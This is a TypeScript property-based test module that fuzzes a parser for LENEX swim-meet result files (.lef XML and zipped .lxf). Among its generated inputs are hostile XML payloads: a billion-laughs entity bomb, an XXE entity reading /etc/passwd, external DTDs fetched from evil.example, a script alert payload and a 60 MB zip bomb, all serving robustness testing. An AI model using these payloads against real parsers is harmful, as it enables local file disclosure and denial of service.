import fc from 'fast-check';
import { unzipSync, zipSync } from 'fflate';
import { bytesOf, edit, type Edit, fileEdits, place, shown, typed } from './edit.js';
import { lenexValues, markup, marks, words } from './values.js';

// Meet results files: a .lef is XML (the fixtures' meets are written on one line), a .lxf a zip
// holding one .lef. Edited as stored (a download cut short, bytes flipped), inside the XML, or
// swapped for a file that is not a meet at all.
const latin1 = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');
const lefName = /\.lef$/i;
/** The .lef in a zip (undefined if the bytes are no zip, or it holds none); what a bomb's header
 * says is past 60 MB is not unzipped. */
export function lefIn(bytes: string) {
  if (!bytes.startsWith('PK')) return undefined;
  try {
    const entries = unzipSync(Buffer.from(bytes, 'latin1'), {
      filter: (f) => lefName.test(f.name) && f.originalSize < 60e6,
    });
    const name = Object.keys(entries).find((n) => lefName.test(n));
    return name === undefined ? undefined : { name, xml: latin1(entries[name]) };
  } catch {
    return undefined;
  }
}
/** An edit made to the XML: inside the zip of an .lxf. */
const inXml = (change: Edit) =>
  edit(`${fc.stringify(change)} (in the XML)`, (bytes) => {
    const lef = lefIn(bytes);
    return lef
      ? latin1(zipSync({ [lef.name]: Buffer.from(change.apply(lef.xml), 'latin1') }))
      : change.apply(bytes);
  });
const xmlEscaped = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
/** The nth value of an attribute (counted modulo how many the file has) replaced. */
function setAttribute(xml: string, name: string, n: number, value: string) {
  const pattern = new RegExp(`(\\s${name}=")[^"]*"`, 'g');
  const count = xml.match(pattern)?.length ?? 0;
  let k = 0;
  return count
    ? xml.replace(pattern, (whole, start) => (k++ === n % count ? `${start}${value}"` : whole))
    : xml;
}

/**
 * A value in the XML replaced, written as an XML writer would (escaped), or raw as a hostile one
 * might.
 */
const attribute = fc
  .tuple(fc.constantFrom(...Object.keys(lenexValues)), place, fc.nat(), fc.boolean())
  .map(([name, n, pick, raw]) => {
    const value = lenexValues[name][pick % lenexValues[name].length];
    return edit(`${name}=${shown(value)}${raw ? ' (unescaped)' : ''} at its ${n}th place`, (xml) =>
      setAttribute(xml, name, n, bytesOf(raw ? value : xmlEscaped(value))),
    );
  });
const hugeAttribute = fc
  .tuple(
    fc.constantFrom(...Object.keys(lenexValues)),
    place,
    fc.integer({ min: 1_000, max: 200_000 }),
    fc.constantFrom('x', 'é', '9', '&lt;b&gt;', '&amp;'),
  )
  .map(([name, n, size, unit]) =>
    edit(`${name}=${shown(unit)} × ${size} at its ${n}th place`, (xml) =>
      setAttribute(xml, name, n, bytesOf(unit.repeat(size))),
    ),
  );
const laughs =
  '<!ENTITY a "ha">' +
  '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' +
  '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">' +
  '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">';
/** A DOCTYPE before the root, its entities used in a value: billion laughs, XXE, an outside DTD. */
const doctype = fc
  .tuple(
    fc.constantFrom(
      [`<!DOCTYPE LENEX [${laughs}]>`, '&d;'],
      ['<!DOCTYPE LENEX [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;'],
      ['<!DOCTYPE LENEX [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>', 'x'],
      ['<!DOCTYPE LENEX SYSTEM "http://evil.example/lenex.dtd">', 'x'],
      ['<!DOCTYPE html>', 'x'],
      ['', '&x;'],
      ['', '&lt;script&gt;'],
    ),
    place,
  )
  .map(([[declared, used], n]) =>
    edit(`${shown(declared)} and ${used} in a name`, (xml) =>
      setAttribute(
        xml.replace(/^(\xEF\xBB\xBF)?(<\?xml[^>]*\?>)?/, `$1$2${declared}`),
        'lastname',
        n,
        used,
      ),
    ),
  );

const zipOf = (files: Record<string, string>) =>
  latin1(
    zipSync(
      Object.fromEntries(
        Object.entries(files).map(([name, text]) => [name, Buffer.from(text, 'latin1')]),
      ),
    ),
  );
let bomb: string | undefined;
/** 60 MB of nothing zipped to about 60 kB, made once: far past the ratio any meet's XML has. */
const zipBomb = () =>
  (bomb ??= latin1(zipSync({ 'bomb.lef': new Uint8Array(60 * 1024 * 1024) }, { level: 9 })));
/** What a bad download or a hostile file holds instead of the meet. */
const replacements: [string, (bytes: string) => string][] = [
  ['nothing', () => ''],
  [
    'a web page (a download that was a sign-in page)',
    () =>
      '<!DOCTYPE html>\n<html><head><title>Sign in</title></head>\n' +
      '<body><script>alert(1)</script></body></html>\n',
  ],
  ['a web page without a DOCTYPE', () => '<html><body><p>Not found</p></body></html>'],
  ['JSON', () => '{"error": "not found"}\n'],
  ['a PDF', () => '%PDF-1.4\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'],
  [
    'record lists but no meet',
    () => '<?xml version="1.0" encoding="UTF-8"?>\n<LENEX version="3.0"><RECORDLISTS/></LENEX>',
  ],
  [
    'a meet with no sessions',
    () =>
      '<?xml version="1.0"?>\n' +
      '<LENEX version="3.0"><MEETS><MEET name="x" course="SCM"/></MEETS></LENEX>',
  ],
  [
    'an XML declaration of an unknown encoding',
    (b) => b.replace(/^(<\?xml[^>]*?)encoding="[^"]*"/, '$1encoding="x-klingon"'),
  ],
  [
    'an XML declaration of UTF-16',
    (b) => b.replace(/^(<\?xml[^>]*?)encoding="[^"]*"/, '$1encoding="UTF-16"'),
  ],
  [
    'a zip with no .lef',
    (b) => zipOf({ 'results.xml': lefIn(b)?.xml ?? b, 'read me.txt': 'hello' }),
  ],
  ['an empty zip', () => zipOf({})],
  ['a zip with two .lef', (b) => zipOf({ 'a.lef': '<LENEX/>', 'b.lef': lefIn(b)?.xml ?? b })],
  [
    'a zip holding a zip named .lef',
    (b) => zipOf({ 'meet.lef': zipOf({ 'meet.lef': lefIn(b)?.xml ?? b }) }),
  ],
  [
    'a zip whose .lef is stored, not compressed',
    (b) => latin1(zipSync({ 'meet.lef': Buffer.from(lefIn(b)?.xml ?? b, 'latin1') }, { level: 0 })),
  ],
  [
    'a zip compressed a way fflate does not know (method 99)',
    (b) => {
      const z = lefIn(b) ? b : zipOf({ 'meet.lef': b });
      return `${z.slice(0, 8)}c\x00${z.slice(10)}`;
    },
  ],
  ['a zip bomb', () => zipBomb()],
  ['a 51 MB file', () => `<?xml version="1.0"?>\n<LENEX>${' '.repeat(51 * 1024 * 1024)}</LENEX>`],
];
const replaced = fc
  .constantFrom(...replacements)
  .map(([name, apply]) => edit(`the file replaced by ${name}`, apply));
export const lenexEdits = [
  ...fileEdits,
  ...fileEdits.map((change) => change.map(inXml)),
  typed([...marks, ...words, ...markup]).map(inXml),
  attribute.map(inXml),
  attribute.map(inXml),
  hugeAttribute.map(inXml),
  doctype.map(inXml),
  replaced,
];
